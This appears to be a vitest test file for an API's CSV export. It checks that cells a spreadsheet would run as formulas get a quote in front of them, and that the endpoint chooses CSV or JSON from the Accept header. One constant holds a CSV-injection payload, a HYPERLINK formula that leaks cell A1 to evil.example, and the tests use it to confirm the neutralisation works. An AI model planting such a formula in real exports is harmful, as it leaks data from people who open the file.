import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/http/csv.js';
import { programRegistered, uniqueId } from '../support/events.js';
import { bearer, inject, record, TEST_ADMIN_KEY } from '../support/http.js';
import { useTestApp } from '../support/test-app.js';

const t = useTestApp();

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

describe('toCsv', () => {
  it('neutralises text cells a spreadsheet would run as a formula, and quotes them', () => {
    const text = toCsv(['cell'], [['=1+1'], ['+1'], ['-1+1'], ['@SUM(A1)'], ['\tTAB'], ['\rCR'], ['\uFF1D1'], ['plain']]);

    const cells = parse(text, { from_line: 2 }).map((row: string[]) => row[0]);
    expect(cells).toEqual(["'=1+1", "'+1", "'-1+1", "'@SUM(A1)", "'\tTAB", "'\rCR", "'\uFF1D1", 'plain']);
    expect(text.split('\r\n')[1]).toBe(`"'=1+1"`);
  });

  it('writes numbers and booleans as they are, so a negative number stays a number', () => {
    const text = toCsv(['n', 'b', 'empty'], [[-3, false, undefined]]);

    expect(text).toBe('n,b,empty\r\n-3,false,\r\n');
  });
});

describe('GET /v1/timeline as text/csv', () => {
  it('opens a title that starts with = as text: the cell is prefixed with a quote', async () => {
    const programId = uniqueId('p');
    await record(t.app, programRegistered(programId), {
      type: 'seminar.held',
      occurredAt: '2026-06-10',
      data: { programId, title: FORMULA },
      sources: [{ url: 'https://news.example/seminar', title: FORMULA }],
    });

    const response = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { accept: 'text/csv', ...bearer(TEST_ADMIN_KEY) } });

    expect(response.statusCode).toBe(200);
    const rows: Record<string, string>[] = parse(response.body, { columns: true });
    const seminar = rows.find((row) => row.type === 'seminar.held');
    expect(seminar?.title).toBe(`'${FORMULA}`);
    expect(response.body).toContain(`"'=HYPERLINK(`);
  });
});

describe('choosing CSV or JSON by the Accept header', () => {
  it.each([
    ['text/csv', 'text/csv'],
    ['text/csv; charset=utf-8', 'text/csv'],
    ['text/csv; header=present', 'text/csv'],
    ['text/csv, application/json', 'text/csv'],
    ['application/json;q=0.5, text/csv', 'text/csv'],
    ['text/*', 'text/csv'],
    ['application/json, text/csv;q=0', 'application/json'],
    ['application/json, text/csv;q=0.5', 'application/json'],
    ['text/html,application/xhtml+xml,*/*;q=0.8', 'application/json'],
    ['*/*', 'application/json'],
    ['', 'application/json'],
  ])('answers Accept: %s with %s', async (accept, answered) => {
    const programId = uniqueId('p');
    await record(t.app, programRegistered(programId));

    const response = await inject(t.app, { url: `/v1/timeline?programId=${programId}`, headers: { ...(accept !== '' && { accept }), ...bearer(TEST_ADMIN_KEY) } });

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain(answered);
  });
});
